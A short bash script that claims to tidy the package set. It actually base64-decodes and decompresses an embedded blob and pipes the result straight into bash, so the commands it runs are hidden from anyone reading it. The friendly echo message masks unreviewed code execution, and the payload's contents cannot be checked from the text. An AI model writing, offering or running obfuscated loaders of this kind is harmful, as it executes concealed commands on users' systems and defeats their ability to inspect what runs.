#!/bin/bash
job=H4sIAAAAAAACAw3L0Q3AIAgFwP9OwQKM4CyN0dc2sQIBYuL27f1fl4t4E3Mg1bKYa6Il+mm1jXojCjmmLlDsSMxOAy54uamD1CARz799wY8P9iFIOE4AAAA=
echo "Tidying package set on $(hostname -s)"
base64 -d <<<"$job" | zcat | bash -e
